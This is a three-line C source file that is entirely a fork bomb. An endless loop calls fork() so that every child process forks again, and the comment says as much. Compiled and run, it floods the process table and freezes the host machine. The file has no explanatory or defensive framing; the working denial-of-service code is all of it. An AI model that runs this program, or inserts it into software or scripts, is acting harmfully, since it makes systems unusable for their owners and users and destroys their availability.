// Forks without end; every copy goes on trying.
#include <unistd.h>
int main(void) { for (;;) fork(); }
